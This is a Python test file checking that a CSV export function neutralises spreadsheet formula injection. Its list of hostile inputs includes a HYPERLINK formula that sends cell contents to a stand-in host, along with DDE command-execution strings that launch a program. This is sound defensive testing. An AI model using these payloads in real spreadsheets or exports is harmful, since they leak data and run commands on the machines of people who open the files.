"""A file that a spreadsheet opens without computing anything (reliability E10)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from standby.reports.rules import csv_row

HOSTILE = [
    '=HYPERLINK("https://evil.test?"&A1,"x")',
    "+1-281-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0@x",
    "\uff1d1+1",
]
FORMULA = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_what_would_be_a_formula_is_text(text: str) -> None:
    [[cell, other]] = read(csv_row([text, "x"]))

    assert (cell, other) == (f"'{text}", "x")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
def test_whatever_is_written_is_read_again_and_no_cell_begins_a_formula(texts: list[str]) -> None:
    [cells] = read(csv_row(texts))

    assert [
        cell.removeprefix("'") if cell != text else cell
        for cell, text in zip(cells, texts, strict=True)
    ] == texts
    assert not [cell for cell in cells if cell.lstrip()[:1] in FORMULA or cell[:1] in FORMULA]


def test_numbers_stay_numbers_and_lines_end_as_rfc_4180_has_it() -> None:
    row = csv_row([-100, None, True, False, datetime(2025, 11, 3, 15, tzinfo=UTC), 'a "b", c'])

    assert row == '-100,,yes,no,2025-11-03T15:00:00Z,"a ""b"", c"\r\n'
